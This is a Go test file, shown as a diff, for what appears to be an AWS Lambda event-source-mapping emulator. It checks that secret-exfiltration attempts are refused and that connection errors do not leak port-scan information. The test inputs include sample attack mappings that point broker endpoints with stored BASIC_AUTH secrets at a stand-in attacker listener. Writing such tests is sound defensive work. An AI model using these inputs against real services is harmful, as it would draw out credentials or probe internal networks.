@@ -1,0 +1,261 @@
+package main
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/aws/aws-sdk-go-v2/aws"
+	"github.com/aws/aws-sdk-go-v2/service/lambda"
+	"github.com/aws/aws-sdk-go-v2/service/lambda/types"
+
+	"github.com/esmd/esmd/internal/testenv"
+)
+
+const (
+	secretArn   = "arn:aws:secretsmanager:us-east-1:000000000000:secret:"
+	mqBroker    = "arn:aws:mq:us-east-1:000000000000:broker:prod:b-1234"
+	docdbArn    = "arn:aws:rds:us-east-1:000000000000:cluster:prod"
+	theSecretPW = "hunter2-do-not-leak"
+)
+
+// listener counts the connections an address receives (an attacker's
+// broker).
+type listener struct {
+	addr  string
+	conns atomic.Int32
+}
+
+func listen(t *testing.T) *listener {
+	t.Helper()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	l := &listener{addr: ln.Addr().String()}
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			l.conns.Add(1)
+			c.Close()
+		}
+	}()
+	t.Cleanup(func() { ln.Close(); <-done })
+	return l
+}
+
+// writeSecrets writes a secrets file of BASIC_AUTH secrets, each
+// restricted to the endpoints listed (nil: unrestricted).
+func writeSecrets(t *testing.T, path string, allowed map[string][]string) {
+	t.Helper()
+	m := map[string]map[string]any{}
+	for name, eps := range allowed {
+		s := map[string]any{"username": "esmd", "password": theSecretPW}
+		if eps != nil {
+			s["esmd:allowed-endpoints"] = eps
+		}
+		m[secretArn+name] = s
+	}
+	b, _ := json.Marshal(m)
+	if err := os.WriteFile(path, b, 0o600); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func basicAuth(name string) []types.SourceAccessConfiguration {
+	return []types.SourceAccessConfiguration{{Type: types.SourceAccessTypeBasicAuth, URI: aws.String(secretArn + name)}}
+}
+
+func kafkaInput(servers string, sacs []types.SourceAccessConfiguration) *lambda.CreateEventSourceMappingInput {
+	return &lambda.CreateEventSourceMappingInput{FunctionName: aws.String("function"), Topics: []string{"topic"},
+		StartingPosition:           types.EventSourcePositionTrimHorizon,
+		SelfManagedEventSource:     &types.SelfManagedEventSource{Endpoints: map[string][]string{"KAFKA_BOOTSTRAP_SERVERS": {servers}}},
+		SourceAccessConfigurations: sacs}
+}
+
+// secretsServe runs serve with a secrets file and source flags; mappings
+// invoke a no-op function.
+func secretsServe(t *testing.T, dir, secrets string, flags ...string) (*lambda.Client, func()) {
+	t.Helper()
+	fn := httptest.NewServer(newInvokeRecorder(func([]byte) ([]string, error) { return nil, nil }))
+	t.Cleanup(fn.Close)
+	c := newCommon("test", io.Discard, "127.0.0.1:0")
+	if err := c.fs.Parse(append([]string{"--data-dir", dir, "--secrets-file", secrets, "--function-check", "never",
+		"--lambda-endpoint", fn.URL}, flags...)); err != nil {
+		t.Fatal(err)
+	}
+	addr, stop := serveWith(t, c)
+	return client(addr), stop
+}
+
+// TestSecretRestrictionRefusesExfiltration is issue 19's secret theft: a
+// caller names its own host as a broker and a BASIC_AUTH secret of
+// --secrets-file. A secret restricted with esmd:allowed-endpoints is
+// refused at create and at update with an InvalidParameterValueException
+// naming the secret and the endpoint (never the password), and nothing
+// connects to the caller's host; a mapping stored before the restriction
+// is disabled at connect time, before any connection.
+func TestSecretRestrictionRefusesExfiltration(t *testing.T) {
+	attacker := listen(t)
+	const good = "127.0.0.1:19092"
+	dir := t.TempDir()
+	path := filepath.Join(dir, "secrets.json")
+	writeSecrets(t, path, map[string][]string{
+		"kafka": {good, "*.brokers.example.com:9096", "arn:aws:kafka:us-east-1:000000000000:cluster/prod/*"},
+		"mq":    {mqBroker},
+		"docdb": {"docdb.example.com:27017"},
+		"open":  nil,
+	})
+	api, stop := secretsServe(t, dir, path,
+		"--mq-broker", mqBroker+"=amqps://mq.example.com:5671",
+		"--mq-broker", "arn:aws:mq:us-east-1:000000000000:broker:evil:b-666=amqps://"+attacker.addr,
+		"--mq-broker", "arn:aws:mq:us-east-1:000000000000:broker:amq:b-777=stomp+ssl://"+attacker.addr,
+		"--docdb-cluster", docdbArn+"=mongodb://"+attacker.addr,
+		"--msk-cluster", "arn:aws:kafka:us-east-1:000000000000:cluster/test/1="+attacker.addr)
+	ctx := context.Background()
+
+	refused := []struct {
+		name     string
+		in       *lambda.CreateEventSourceMappingInput
+		endpoint string
+	}{
+		{"self-managed kafka", kafkaInput(attacker.addr, basicAuth("kafka")), attacker.addr},
+		{"port not allowed", kafkaInput("127.0.0.1:19093", basicAuth("kafka")), "127.0.0.1:19093"},
+		{"msk cluster not allowed", &lambda.CreateEventSourceMappingInput{FunctionName: aws.String("function"), Topics: []string{"topic"},
+			EventSourceArn: aws.String("arn:aws:kafka:us-east-1:000000000000:cluster/test/1"), StartingPosition: types.EventSourcePositionLatest,
+			SourceAccessConfigurations: []types.SourceAccessConfiguration{{Type: types.SourceAccessTypeSaslScram512Auth, URI: aws.String(secretArn + "kafka")}}},
+			attacker.addr},
+		{"rabbitmq broker not allowed", &lambda.CreateEventSourceMappingInput{FunctionName: aws.String("function"), Queues: []string{"q"},
+			EventSourceArn: aws.String("arn:aws:mq:us-east-1:000000000000:broker:evil:b-666"), SourceAccessConfigurations: basicAuth("mq")},
+			attacker.addr},
+		{"activemq broker not allowed", &lambda.CreateEventSourceMappingInput{FunctionName: aws.String("function"), Queues: []string{"q"},
+			EventSourceArn: aws.String("arn:aws:mq:us-east-1:000000000000:broker:amq:b-777"), SourceAccessConfigurations: basicAuth("mq")},
+			attacker.addr},
+		{"documentdb cluster not allowed", &lambda.CreateEventSourceMappingInput{FunctionName: aws.String("function"),
+			EventSourceArn: aws.String(docdbArn), StartingPosition: types.EventSourcePositionLatest,
+			DocumentDBEventSourceConfig: &types.DocumentDBEventSourceConfig{DatabaseName: aws.String("db")},
+			SourceAccessConfigurations:  basicAuth("docdb")},
+			attacker.addr},
+	}
+	for _, tc := range refused {
+		_, err := api.CreateEventSourceMapping(ctx, tc.in)
+		var ipv *types.InvalidParameterValueException
+		if !errors.As(err, &ipv) {
+			t.Errorf("%s: %v, want InvalidParameterValueException", tc.name, err)
+			continue
+		}
+		secret := tc.in.SourceAccessConfigurations[0].URI
+		if msg := aws.ToString(ipv.Message); !strings.Contains(msg, *secret) || !strings.Contains(msg, tc.endpoint) || strings.Contains(msg, theSecretPW) {
+			t.Errorf("%s: message %q, want the secret %s and the endpoint %s", tc.name, msg, *secret, tc.endpoint)
+		}
+	}
+	if out, err := api.ListEventSourceMappings(ctx, &lambda.ListEventSourceMappingsInput{}); err != nil || len(out.EventSourceMappings) != 0 {
+		t.Fatalf("refused mappings were stored: %v %v", out, err)
+	}
+
+	// Allowed: the listed broker, a name under the listed domain, the
+	// listed broker ARN.
+	for _, in := range []*lambda.CreateEventSourceMappingInput{
+		kafkaInput(good, basicAuth("kafka")),
+		kafkaInput("b-1.brokers.example.com:9096", basicAuth("kafka")),
+		{FunctionName: aws.String("function"), Queues: []string{"q"}, EventSourceArn: aws.String(mqBroker), SourceAccessConfigurations: basicAuth("mq"),
+			Enabled: aws.Bool(false)},
+	} {
+		if _, err := api.CreateEventSourceMapping(ctx, in); err != nil {
+			t.Errorf("allowed mapping refused: %v", err)
+		}
+	}
+
+	if n := attacker.conns.Load(); n != 0 {
+		t.Errorf("the caller's host received %d connections", n)
+	}
+
+	// Update: a mapping on the caller's host with an unrestricted secret
+	// may not switch to the restricted one.
+	out, err := api.CreateEventSourceMapping(ctx, kafkaInput(attacker.addr, basicAuth("open")))
+	if err != nil {
+		t.Fatal(err)
+	}
+	testenv.Eventually(t, 10*time.Second, func(ctx context.Context) error {
+		_, err := api.UpdateEventSourceMapping(ctx, &lambda.UpdateEventSourceMappingInput{UUID: out.UUID, SourceAccessConfigurations: basicAuth("kafka")})
+		var ipv *types.InvalidParameterValueException
+		if errors.As(err, &ipv) && strings.Contains(aws.ToString(ipv.Message), attacker.addr) {
+			return nil
+		}
+		return fmt.Errorf("update: %v", err) // ResourceInUse while Creating
+	})
+	stop()
+
+	// Connect time: the mapping's secret is restricted after it was
+	// stored (the file edited, esmd restarted): the mapping is disabled
+	// with ESM_CONFIG_NOT_VALID, before it connects again.
+	before := attacker.conns.Load()
+	writeSecrets(t, path, map[string][]string{"open": {good}})
+	api, stop = secretsServe(t, dir, path)
+	defer stop()
+	var got *lambda.GetEventSourceMappingOutput
+	testenv.Eventually(t, 20*time.Second, func(ctx context.Context) error {
+		got, err = api.GetEventSourceMapping(ctx, &lambda.GetEventSourceMappingInput{UUID: out.UUID})
+		if err == nil && aws.ToString(got.State) != "Disabled" {
+			err = fmt.Errorf("state %s, %s", aws.ToString(got.State), aws.ToString(got.LastProcessingResult))
+		}
+		return err
+	})
+	res := aws.ToString(got.LastProcessingResult)
+	if aws.ToString(got.StateTransitionReason) != "ESM_CONFIG_NOT_VALID" || !strings.HasPrefix(res, "PROBLEM: ") ||
+		!strings.Contains(res, secretArn+"open") || !strings.Contains(res, attacker.addr) || strings.Contains(res, theSecretPW) {
+		t.Errorf("disabled with %q, %q", aws.ToString(got.StateTransitionReason), res)
+	}
+	if n := attacker.conns.Load(); n != before {
+		t.Errorf("the caller's host received %d connections after the restriction", n-before)
+	}
+}
+
+// TestLastProcessingResultIsNoPortScanner: a caller who may create
+// self-managed Kafka mappings names any host:port as a bootstrap server.
+// Whether nothing listens there, a service that is no Kafka broker answers,
+// a listener never answers, or the name does not resolve,
+// LastProcessingResult says the same AWS phrase.
+func TestLastProcessingResultIsNoPortScanner(t *testing.T) {
+	dir := t.TempDir()
+	api, stop := secretsServe(t, dir, "")
+	defer stop()
+	ctx := context.Background()
+	ids := map[string]*string{}
+	for name, addr := range testenv.Unreachable(t) {
+		out, err := api.CreateEventSourceMapping(ctx, kafkaInput(addr, []types.SourceAccessConfiguration{
+			{Type: types.SourceAccessTypeVpcSubnet, URI: aws.String("subnet:subnet-0123")}}))
+		if err != nil {
+			t.Fatal(err)
+		}
+		ids[name] = out.UUID
+	}
+	const want = "PROBLEM: Connection error. Please check your event source connection configuration."
+	for name, id := range ids {
+		testenv.Eventually(t, 40*time.Second, func(ctx context.Context) error {
+			got, err := api.GetEventSourceMapping(ctx, &lambda.GetEventSourceMappingInput{UUID: id})
+			if err != nil {
+				return err
+			}
+			if res := aws.ToString(got.LastProcessingResult); res != want {
+				return fmt.Errorf("%s: LastProcessingResult %q", name, res)
+			}
+			return nil
+		})
+	}
+}
